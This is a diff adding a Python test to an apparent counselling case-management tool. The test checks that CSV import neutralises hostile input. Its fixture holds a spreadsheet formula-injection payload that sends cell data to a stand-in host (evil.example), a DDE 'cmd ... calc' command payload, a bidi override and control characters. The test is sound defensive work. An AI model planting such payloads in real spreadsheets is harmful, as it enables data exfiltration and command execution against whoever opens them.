@@ -198,3 +198,35 @@ def test_a_supervisor_reads_the_trail_of_a_case_on_the_command_line(desk, secret
                                     "khi-counsellor1", "--password-stdin"],
                             input="demo\n", capture_output=True, text=True)
     assert denied.returncode == 6 and "may not read the audit trail" in denied.stderr
+
+
+HOSTILE = ('\ufeffclient_name,client_phone,district,category,opened_on,narrative\n'
+           '"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",0345-0922101,Karachi South,'
+           'dv_physical,2025-02-03,"paid \u202e0001\u202c rupees\x07"\n'
+           '"+cmd|\' /C calc\'!A0",0345-0922102,Karachi South,dv_physical,2025-02-04,'
+           + "x" * 25_000 + "\n")
+
+
+def test_a_hostile_file_keeps_formulas_as_text_strips_controls_and_refuses_a_huge_cell(desk):
+    """Formula injection, bidi overrides and control characters, a cell far longer than
+    any field, behind a UTF-8 byte-order mark (Excel's "CSV UTF-8")."""
+    folder, database, users = desk
+    me, supervisor = users["khi-counsellor1"], users["khi-supervisor1"]
+    (folder / "hostile.csv").write_text(HOSTILE, encoding="utf-8")
+    before = _count(database)
+    report = case_transfer.import_cases(database, me, folder / "hostile.csv")
+    assert report.imported == 0 and _count(database) == before      # nothing half-way
+    assert [(p.row, p.field) for p in report.problems] == [(3, "narrative")]
+    assert "at most 20,000 characters" in report.problems[0].message
+    report = case_transfer.import_cases(database, me, folder / "hostile.csv",
+                                        valid_only=True)
+    assert report.imported == 1
+    (imported,) = [cases.open_case(database, me, i) for i in _ids(database, report)]
+    # Kept as the text it is (sealed like any name), never evaluated; the override and
+    # the bell are gone.
+    assert imported.persons[0].name == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert imported.narrative == "paid 0001 rupees"
+    case_transfer.export_cases(database, supervisor, folder / "out.csv", anonymised=False)
+    rows = list(csv.DictReader((folder / "out.csv").open(encoding="utf-8-sig")))
+    exported = next(r for r in rows if r["client_phone"] == "+923450922101")
+    assert exported["client_name"].startswith("'=HYPERLINK(")          # inert in Excel
